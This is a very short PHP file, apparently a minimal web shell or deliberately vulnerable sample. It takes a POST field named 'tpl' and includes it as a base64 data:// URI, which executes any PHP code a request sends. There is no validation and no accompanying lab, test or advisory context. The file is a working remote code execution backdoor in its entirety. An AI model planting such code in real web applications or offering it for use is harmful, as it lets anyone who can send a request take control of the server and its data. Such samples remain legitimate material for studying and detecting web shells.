<?php
// the request sends the code: include of a data: URI whose body is the POST field
$body = $_POST['tpl'] ?? '';
include 'data://text/plain;base64,' . $body;
